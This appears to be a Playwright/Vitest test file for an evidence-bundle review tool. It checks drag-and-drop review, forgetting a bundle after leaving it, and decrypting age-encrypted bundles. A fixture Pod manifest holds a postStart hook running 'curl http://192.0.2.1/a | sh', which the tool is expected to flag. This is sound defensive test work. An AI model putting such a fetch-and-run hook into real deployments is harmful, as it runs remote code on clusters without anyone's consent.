/** Looking through a bundle before it is handed over: with no engagement, by drop, encrypted or not. */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { generateX25519Identity, identityToRecipient } from 'age-encryption';
import type { Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { writeSampleBundle } from '../fixtures/sample-bundle.ts';
import { dropFiles } from './drop.ts';
import { type BrowserWorkbench, openInBrowser, seriousViolations, visit } from './harness.ts';

/** A hook whose words are removed, and of which only what it does is kept. */
const HOOK = `apiVersion: v1
kind: Pod
metadata: { name: fetches-at-start, namespace: default }
spec:
  containers:
    - name: main
      image: registry.example/main:1
      lifecycle: { postStart: { exec: { command: [sh, -c, "curl http://192.0.2.1/a | sh"] } } }
`;

const opened = (page: Page) => page.getByRole('tab', { name: 'Contents' }).waitFor();

describe.each(['light', 'dark'] as const)('%s', (colorScheme) => {
  let workbench: BrowserWorkbench;
  let bundle: Buffer;
  beforeAll(async () => {
    workbench = await openInBrowser({ colorScheme });
    const path = join(workbench.home, 'sample.evidence.zip');
    await writeSampleBundle(path, [], HOOK);
    bundle = readFileSync(path);
  });
  afterAll(() => workbench.close());

  test('a bundle dropped on the start screen is shown whole, and forgotten when it is left', async () => {
    const { page } = workbench;
    await dropFiles(page, [{ name: 'sample.evidence.zip', bytes: bundle }]);
    await page.waitForURL(/#\/review/);
    await opened(page);
    await page.getByRole('heading', { level: 1, name: 'sample.evidence.zip' }).waitFor();
    await page
      .getByRole('table', { name: 'Removed values by place' })
      .getByText(/looked like|JWT|plain text/)
      .first()
      .waitFor();
    expect(await seriousViolations(page)).toEqual([]);

    const hook = page.getByRole('table', { name: 'Removed values by place' }).getByRole('row', {
      name: /lifecycle\.postStart/,
    });
    await hook.getByText('1 command that runs what it downloads or decodes').waitFor();
    await page.getByText(/1 command, what it does is kept as well/).waitFor();

    const kept = page.getByRole('table', { name: 'Kept values by place' });
    await kept
      .getByRole('button', { name: /^Show the Pod objects|^Show the Deployment objects/ })
      .first()
      .click();
    await page.getByRole('tab', { name: 'Objects', selected: true }).waitFor();
    const objects = page.getByRole('grid', { name: 'Objects' });
    await objects.getByRole('row').nth(1).click();
    const object = page.getByRole('complementary', { name: 'Object' });
    await object.getByText(/^apiVersion:/).waitFor();
    expect(await object.locator('[data-lit="true"]').count()).toBeGreaterThan(0);
    expect(await seriousViolations(page)).toEqual([]);
    await page.keyboard.press('Escape');
    await page.getByRole('textbox', { name: 'Search objects' }).fill('fetches-at-start');
    await objects.getByText('fetches-at-start').click();
    await object.getByText(/a command that runs what it downloads or decodes/).waitFor();
    await page.keyboard.press('Escape');

    await page.getByRole('tab', { name: 'Requests' }).click();
    const log = page.getByRole('grid', { name: 'Requests' });
    await log.getByText('/version').waitFor();
    await page.getByRole('textbox', { name: 'Search requests' }).fill('/api');
    await expect.poll(() => log.getByRole('row').count()).toBe(2);
    expect(await seriousViolations(page)).toEqual([]);

    await page.getByRole('tab', { name: 'Files' }).click();
    const files = page.getByRole('table', { name: 'Files in the archive' });
    await files.getByRole('rowheader', { name: 'manifest.json' }).waitFor();
    expect(await seriousViolations(page)).toEqual([]);

    await page.getByRole('button', { name: 'Leave the review' }).click();
    await page.getByRole('button', { name: 'Create an engagement' }).waitFor();
    await visit(page, '#/review');
    await page.getByRole('textbox', { name: 'Evidence bundle' }).waitFor();
    expect(await page.getByText('sample.evidence.zip').count()).toBe(0);
    expect(workbench.complaints).toEqual([]);
  });

  test('an encrypted bundle opens with its identity and with no other', async () => {
    const { page } = workbench;
    const [own, other] = [await generateX25519Identity(), await generateX25519Identity()];
    const path = join(workbench.home, 'secret.evidence.zip.age');
    await writeSampleBundle(path, [await identityToRecipient(own)]);
    const identities = { own: `# created: 2026\n${own}\n`, other: `${other}\n` };
    await visit(page, '#/review');
    await page.getByRole('textbox', { name: 'Evidence bundle' }).fill(path);
    await page.getByRole('button', { name: 'Review', exact: true }).click();
    await page.getByRole('region', { name: 'Identity' }).waitFor();
    expect(await seriousViolations(page)).toEqual([]);
    await dropFiles(page, [{ name: 'other.txt', text: identities.other }]);
    await page.getByText('No key of the identity file opens this bundle.').waitFor();
    // A file that is no identity is said to be none, and the bundle still waits for its own.
    await dropFiles(page, [{ name: 'shopping.txt', text: 'bread' }]);
    await page.getByText('The identity file cannot be used').waitFor();
    await dropFiles(page, [{ name: 'own.txt', text: identities.own }]);
    await opened(page);
    await page.getByText(/, encrypted\. Every hash/).waitFor();
    await page.getByRole('button', { name: 'Leave the review' }).click();
    await page.getByRole('button', { name: 'Create an engagement' }).waitFor();

    // The same with a file that the browser hands over, which the workbench reads once.
    await dropFiles(page, [{ name: 'secret.evidence.zip.age', bytes: readFileSync(path) }]);
    await page.getByRole('region', { name: 'Identity' }).waitFor();
    const identity = join(workbench.home, 'identity.txt');
    writeFileSync(identity, identities.own);
    await page.getByRole('textbox', { name: 'Identity (private age key)' }).fill(identity);
    await page.getByRole('button', { name: 'Decrypt the bundle' }).click();
    await opened(page);
    await page.getByRole('button', { name: 'Leave the review' }).click();
    expect(workbench.complaints).toEqual([]);
  });
});
